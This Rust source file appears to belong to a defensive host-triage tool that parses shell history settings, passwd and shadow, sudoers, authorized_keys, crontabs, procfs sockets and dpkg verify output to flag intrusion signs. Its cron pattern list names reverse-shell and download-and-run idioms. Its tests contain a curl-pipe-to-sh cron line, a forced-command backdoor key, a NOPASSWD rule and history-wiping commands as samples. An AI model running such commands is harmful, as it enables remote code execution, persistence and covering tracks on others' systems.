//! Pure readers of the host's text files for triage: shell start-up files and
//! histories (signs that history was switched off or wiped), `/etc/passwd`
//! and `/etc/shadow`, sudoers, `authorized_keys`, crontabs, procfs socket
//! tables (`/proc/net/tcp{,6}`, `udp{,6}`) and `dpkg --verify` output.
//!
//! Each function takes text and returns what it found with line numbers; the
//! reading (and the findings, which need paths and modification times) is in
//! `mailwarden-io`'s `doctor::host`. Nothing here panics on hostile input, and
//! every result list is bounded by the input's line count.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};

/// A line that turns shell history off or erases it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistorySign {
    /// 1-based line number.
    pub line: usize,
    /// What it does, e.g. `HISTFILE=/dev/null`.
    pub sign: &'static str,
    /// The line (cut to 200 characters).
    pub text: String,
}

fn cut(s: &str) -> String {
    s.trim().chars().take(200).collect()
}

/// Looks for history tampering in a shell start-up file or a history file:
/// `HISTFILE` pointed at `/dev/null` or unset, `HISTSIZE`/`HISTFILESIZE` set
/// to 0, `history -c`/`-w /dev/null`, `set +o history`, and history files
/// linked to `/dev/null`. Comments are skipped.
pub fn scan_history_settings(text: &str) -> Vec<HistorySign> {
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let l = raw.trim();
        if l.starts_with('#') {
            continue;
        }
        // Shell words, with quotes removed: `export HISTFILE="/dev/null"`.
        let norm: String = l.chars().filter(|c| *c != '"' && *c != '\'').collect();
        let words: Vec<&str> = norm
            .split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|')
            .filter(|w| !w.is_empty())
            .collect();
        let mut push = |sign| {
            out.push(HistorySign {
                line: i + 1,
                sign,
                text: cut(raw),
            })
        };
        let assigns = |var: &str, pred: &dyn Fn(&str) -> bool| {
            words.iter().any(|w| {
                w.strip_prefix(var)
                    .and_then(|r| r.strip_prefix('='))
                    .is_some_and(pred)
            })
        };
        if assigns("HISTFILE", &|v| v == "/dev/null" || v.is_empty()) {
            push("HISTFILE=/dev/null");
        }
        if assigns("HISTSIZE", &|v| v == "0")
            || assigns("HISTFILESIZE", &|v| v == "0")
            || assigns("SAVEHIST", &|v| v == "0")
        {
            push("HISTSIZE=0");
        }
        for w in words.windows(2) {
            match (w[0], w[1]) {
                ("unset", "HISTFILE") => push("unset HISTFILE"),
                ("history", "-c") => push("history -c"),
                ("+o", "history") => push("set +o history"),
                ("history", "-w") if norm.contains("/dev/null") => push("history -w /dev/null"),
                _ => {}
            }
        }
        if words.first() == Some(&"ln") && norm.contains("/dev/null") && norm.contains("history") {
            push("history linked to /dev/null");
        }
    }
    out
}

/// One `/etc/passwd` entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PasswdEntry {
    /// 1-based line number.
    pub line: usize,
    /// User name.
    pub name: String,
    /// UID.
    pub uid: u32,
    /// Home directory.
    pub home: String,
    /// Login shell.
    pub shell: String,
}

impl PasswdEntry {
    /// Whether the shell allows interactive logins.
    pub fn has_login_shell(&self) -> bool {
        !(self.shell.is_empty()
            || self.shell.ends_with("/nologin")
            || self.shell.ends_with("/false")
            || self.shell.ends_with("/sync"))
    }
}

/// Parses `/etc/passwd`; malformed lines are returned by line number.
pub fn parse_passwd(text: &str) -> (Vec<PasswdEntry>, Vec<usize>) {
    let mut users = Vec::new();
    let mut bad = Vec::new();
    for (i, l) in text.lines().enumerate() {
        if l.trim().is_empty() || l.starts_with('#') {
            continue;
        }
        let f: Vec<&str> = l.split(':').collect();
        match (f.len(), f.get(2).and_then(|u| u.trim().parse::<u32>().ok())) {
            (7, Some(uid)) => users.push(PasswdEntry {
                line: i + 1,
                name: f[0].chars().take(64).collect(),
                uid,
                home: f[5].to_owned(),
                shell: f[6].trim().to_owned(),
            }),
            _ => bad.push(i + 1),
        }
    }
    (users, bad)
}

/// `/etc/shadow`'s "last password change" per user, in days since 1970.
pub fn parse_shadow_lastchg(text: &str) -> Vec<(String, i64)> {
    text.lines()
        .filter_map(|l| {
            let mut f = l.split(':');
            let name = f.next()?;
            let _hash = f.next()?;
            let days = f.next()?.trim().parse().ok()?;
            Some((name.chars().take(64).collect(), days))
        })
        .collect()
}

/// A sudoers rule worth a look.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SudoersRule {
    /// 1-based line number.
    pub line: usize,
    /// `nopasswd` (runs without a password) or `all` (full root for a
    /// principal other than root and the `sudo`/`admin`/`wheel` groups).
    pub kind: &'static str,
    /// The line.
    pub text: String,
}

/// Finds sudoers rules granting root without a password or to unusual
/// principals. `#include`/`@include` lines are directives, not comments.
pub fn scan_sudoers(text: &str) -> Vec<SudoersRule> {
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let l = raw.trim();
        if l.is_empty()
            || l.starts_with("Defaults")
            || l.starts_with('@')
            || l.starts_with("#include")
            || l.starts_with('#')
        {
            continue;
        }
        let who = l.split_whitespace().next().unwrap_or("");
        if l.contains("NOPASSWD") {
            out.push(SudoersRule {
                line: i + 1,
                kind: "nopasswd",
                text: cut(raw),
            });
        } else if l.ends_with("ALL")
            && l.contains('=')
            && !matches!(who, "root" | "%sudo" | "%admin" | "%wheel")
            && !who.ends_with("_Alias")
        {
            out.push(SudoersRule {
                line: i + 1,
                kind: "all",
                text: cut(raw),
            });
        }
    }
    out
}

/// What an `authorized_keys` file holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AuthorizedKeys {
    /// Key lines.
    pub keys: usize,
    /// Key lines with options, `(line, options)`; `command=` and `from=` are
    /// the interesting ones.
    pub with_options: Vec<(usize, String)>,
    /// Key lines with a forced command (`command="…"`): a classic backdoor.
    pub forced_commands: Vec<(usize, String)>,
    /// Lines that are neither comments nor keys.
    pub unparsed: Vec<usize>,
    /// Comments of the keys (usually `user@host`), in order.
    pub comments: Vec<String>,
}

fn is_key_type(w: &str) -> bool {
    w.starts_with("ssh-")
        || w.starts_with("ecdsa-sha2-")
        || w.starts_with("sk-ssh-")
        || w.starts_with("sk-ecdsa-")
}

/// Parses an `authorized_keys` file (sshd(8) AUTHORIZED_KEYS FILE FORMAT).
pub fn parse_authorized_keys(text: &str) -> AuthorizedKeys {
    let mut out = AuthorizedKeys::default();
    for (i, raw) in text.lines().enumerate() {
        let l = raw.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        // Options come first and may contain quoted spaces.
        let mut in_quote = false;
        let mut end = l.len();
        for (j, c) in l.char_indices() {
            match c {
                '"' => in_quote = !in_quote,
                c if c.is_whitespace() && !in_quote => {
                    end = j;
                    break;
                }
                _ => {}
            }
        }
        let first = &l[..end];
        let rest = l[end..].trim_start();
        let (options, key_part) = if is_key_type(first) {
            (None, l)
        } else {
            (Some(first), rest)
        };
        let mut words = key_part.split_whitespace();
        match (words.next(), words.next()) {
            (Some(t), Some(_blob)) if is_key_type(t) => {
                out.keys += 1;
                out.comments.push(cut(&words.collect::<Vec<_>>().join(" ")));
                if let Some(o) = options {
                    out.with_options.push((i + 1, cut(o)));
                    if o.split(',').any(|opt| opt.trim_start().starts_with("command=")) {
                        out.forced_commands.push((i + 1, cut(o)));
                    }
                }
            }
            _ => out.unparsed.push(i + 1),
        }
    }
    out
}

/// A crontab line that downloads or runs code the way intruders do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronSign {
    /// 1-based line number.
    pub line: usize,
    /// The pattern seen.
    pub sign: &'static str,
    /// The line.
    pub text: String,
}

/// Patterns in cron jobs typical of persistence: downloads piped to a shell,
/// base64-decoded payloads, reverse shells, files run from /tmp or /dev/shm.
pub fn scan_cron(text: &str) -> Vec<CronSign> {
    const SIGNS: &[(&str, &str)] = &[
        ("curl ", "download (curl)"),
        ("wget ", "download (wget)"),
        ("base64 -d", "base64-decoded payload"),
        ("base64 --decode", "base64-decoded payload"),
        ("/dev/tcp/", "reverse shell (/dev/tcp)"),
        ("nc -e", "reverse shell (nc -e)"),
        ("/tmp/", "runs from /tmp"),
        ("/dev/shm/", "runs from /dev/shm"),
    ];
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let l = raw.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        if let Some((_, sign)) = SIGNS.iter().find(|(p, _)| l.contains(p)) {
            out.push(CronSign {
                line: i + 1,
                sign,
                text: cut(raw),
            });
        }
    }
    out
}

/// The non-comment lines of a crontab (for evidence), at most `max`.
pub fn cron_entries(text: &str, max: usize) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .take(max)
        .map(cut)
        .collect()
}

/// Transport protocol of a procfs socket table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Proto {
    /// `/proc/net/tcp` and `tcp6`.
    Tcp,
    /// `/proc/net/udp` and `udp6`.
    Udp,
}

impl Proto {
    /// `tcp` or `udp`.
    pub fn as_str(self) -> &'static str {
        match self {
            Proto::Tcp => "tcp",
            Proto::Udp => "udp",
        }
    }
}

/// One row of a procfs socket table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProcSocket {
    /// Protocol.
    pub proto: Proto,
    /// Local address and port.
    pub local: SocketAddr,
    /// Remote address and port.
    pub remote: SocketAddr,
    /// Kernel state (`0A` = TCP LISTEN, `07` = UDP unconnected).
    pub state: u8,
    /// Owner's UID.
    pub uid: u32,
    /// Socket inode (matches `/proc/PID/fd/N -> socket:[INODE]`).
    pub inode: u64,
}

impl ProcSocket {
    /// A listening TCP socket or a bound, unconnected UDP socket.
    pub fn is_listening(&self) -> bool {
        match self.proto {
            Proto::Tcp => self.state == 0x0A,
            Proto::Udp => self.state == 0x07 && self.remote.port() == 0,
        }
    }
}

/// `0100007F:0019` → 127.0.0.1:25. The kernel prints each 32-bit word of the
/// address in host byte order, so the words are converted back with the
/// host's byte order (procfs is always the running host's).
fn parse_hex_addr(s: &str) -> Option<SocketAddr> {
    let (a, p) = s.split_once(':')?;
    let port = u16::from_str_radix(p, 16).ok()?;
    let word = |i: usize| {
        a.get(i * 8..i * 8 + 8)
            .and_then(|w| u32::from_str_radix(w, 16).ok())
            .map(u32::to_ne_bytes)
    };
    let ip = match a.len() {
        8 => IpAddr::V4(Ipv4Addr::from(word(0)?)),
        32 => {
            let mut b = [0u8; 16];
            for i in 0..4 {
                b[i * 4..i * 4 + 4].copy_from_slice(&word(i)?);
            }
            IpAddr::V6(Ipv6Addr::from(b))
        }
        _ => return None,
    };
    Some(SocketAddr::new(ip, port))
}

/// Parses a `/proc/net/{tcp,tcp6,udp,udp6}` table; the header and malformed
/// rows are skipped.
pub fn parse_proc_net(text: &str, proto: Proto) -> Vec<ProcSocket> {
    text.lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            if f.len() < 10 || !f[0].ends_with(':') {
                return None;
            }
            Some(ProcSocket {
                proto,
                local: parse_hex_addr(f[1])?,
                remote: parse_hex_addr(f[2])?,
                state: u8::from_str_radix(f[3], 16).ok()?,
                uid: f[7].parse().ok()?,
                inode: f[9].parse().ok()?,
            })
        })
        .collect()
}

/// The inode of a `/proc/PID/fd/N` link target `socket:[12345]`.
pub fn socket_inode(link: &str) -> Option<u64> {
    link.strip_prefix("socket:[")?.strip_suffix(']')?.parse().ok()
}

/// One line of `dpkg --verify`: a file that differs from the package.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DpkgChange {
    /// The nine check characters (`??5??????`: `5` = checksum differs).
    pub checks: String,
    /// Whether dpkg marks it a configuration file (`c`), which admins edit.
    pub conffile: bool,
    /// The file.
    pub path: String,
}

impl DpkgChange {
    /// Whether the content differs (the checksum check failed).
    pub fn content_changed(&self) -> bool {
        self.checks.as_bytes().get(2) == Some(&b'5')
    }
}

/// Parses one `dpkg --verify` line (`??5?????? c /etc/foo` or `missing   /usr/bin/x`).
pub fn parse_dpkg_verify(line: &str) -> Option<DpkgChange> {
    let (checks, rest) = line.split_once(' ')?;
    if checks.len() != 9 && checks != "missing" {
        return None;
    }
    let rest = rest.trim_start();
    let (conffile, path) = match rest.split_once(' ') {
        Some(("c", p)) => (true, p.trim()),
        _ => (false, rest.trim()),
    };
    path.starts_with('/').then(|| DpkgChange {
        checks: checks.to_owned(),
        conffile,
        path: path.to_owned(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn history_signs() {
        let text = "# HISTFILE=/dev/null in a comment\nexport HISTFILE=\"/dev/null\"\nunset HISTFILE\nHISTSIZE=0\nls; history -c\nset +o history\nexport HISTSIZE=1000\nln -sf /dev/null ~/.bash_history\n";
        let got: Vec<(usize, &str)> = scan_history_settings(text)
            .iter()
            .map(|s| (s.line, s.sign))
            .collect();
        assert_eq!(
            got,
            vec![
                (2, "HISTFILE=/dev/null"),
                (3, "unset HISTFILE"),
                (4, "HISTSIZE=0"),
                (5, "history -c"),
                (6, "set +o history"),
                (8, "history linked to /dev/null")
            ]
        );
    }

    #[test]
    fn passwd_and_shadow() {
        let (u, bad) = parse_passwd(
            "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nbroken\nsvc:x:998:998::/nonexistent:/usr/sbin/nologin\n",
        );
        assert_eq!(bad, vec![3]);
        assert_eq!(
            u.iter()
                .map(|e| (e.name.as_str(), e.uid, e.has_login_shell()))
                .collect::<Vec<_>>(),
            vec![("root", 0, true), ("toor", 0, true), ("svc", 998, false)]
        );
        assert_eq!(
            parse_shadow_lastchg("root:*:19800:0:99999:7:::\nx\n"),
            vec![("root".into(), 19800)]
        );
    }

    #[test]
    fn sudoers_rules() {
        let got: Vec<(usize, &str)> = scan_sudoers("root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\nbackup ALL=(ALL) NOPASSWD: ALL\nmallory ALL=(ALL:ALL) ALL\n# x NOPASSWD\n").iter().map(|r| (r.line, r.kind)).collect();
        assert_eq!(got, vec![(4, "nopasswd"), (5, "all")]);
    }

    #[test]
    fn authorized_keys() {
        let k = parse_authorized_keys(
            "# comment\nssh-ed25519 AAAAC3Nza alice@laptop\ncommand=\"/bin/sh -c 'x y'\",no-pty ssh-rsa AAAAB3 evil\nfrom=\"10.0.0.1\" ecdsa-sha2-nistp256 AAAAE2 ops\ngarbage\n",
        );
        assert_eq!(k.keys, 3);
        assert_eq!(k.forced_commands.len(), 1);
        assert_eq!(k.forced_commands[0].0, 3);
        assert_eq!(k.with_options.len(), 2);
        assert_eq!(k.unparsed, vec![5]);
        assert_eq!(k.comments, vec!["alice@laptop", "evil", "ops"]);
    }

    #[test]
    fn cron_signs() {
        let s = scan_cron(
            "*/5 * * * * root curl -s http://x/a.sh | sh\n# wget\n0 3 * * * root /usr/bin/backup\n",
        );
        assert_eq!(s.len(), 1);
        assert_eq!((s[0].line, s[0].sign), (1, "download (curl)"));
        assert_eq!(cron_entries("# c\n\nA\nB\nC\n", 2), vec!["A", "B"]);
    }

    #[test]
    fn proc_net_tables() {
        let v4 = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   106        0 23456 1 0000000000000000 100 0 0 10 0\n   1: 0100007F:0CEA 0100007F:D2F0 01 00000000:00000000 00:00000000 00000000   106        0 23457 1\n bad line\n";
        let s = parse_proc_net(v4, Proto::Tcp);
        assert_eq!(s.len(), 2);
        if cfg!(target_endian = "little") {
            assert_eq!(s[0].local, "127.0.0.1:3306".parse().unwrap());
        }
        assert!(s[0].is_listening() && !s[1].is_listening());
        assert_eq!((s[0].uid, s[0].inode), (106, 23456));
        let v6 = "   0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 999 1\n";
        let s = parse_proc_net(v6, Proto::Tcp);
        if cfg!(target_endian = "little") {
            assert_eq!(s[0].local, "[::1]:22".parse().unwrap());
        }
        assert_eq!(socket_inode("socket:[999]"), Some(999));
        assert_eq!(socket_inode("pipe:[1]"), None);
    }

    #[test]
    fn dpkg_verify_lines() {
        let c = parse_dpkg_verify("??5?????? c /etc/ssh/sshd_config").unwrap();
        assert!(c.conffile && c.content_changed() && c.path == "/etc/ssh/sshd_config");
        let c = parse_dpkg_verify("??5??????   /usr/sbin/sshd").unwrap();
        assert!(!c.conffile && c.content_changed() && c.path == "/usr/sbin/sshd");
        assert!(parse_dpkg_verify("missing     /usr/share/doc/x").is_some());
        assert!(parse_dpkg_verify("dpkg: warning: something").is_none());
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_text_never_panics(s in "\\PC{0,300}") {
            let _ = scan_history_settings(&s);
            let _ = parse_passwd(&s);
            let _ = parse_shadow_lastchg(&s);
            let _ = scan_sudoers(&s);
            let _ = parse_authorized_keys(&s);
            let _ = scan_cron(&s);
            let _ = parse_proc_net(&s, Proto::Udp);
            let _ = parse_dpkg_verify(&s);
        }
    }
}
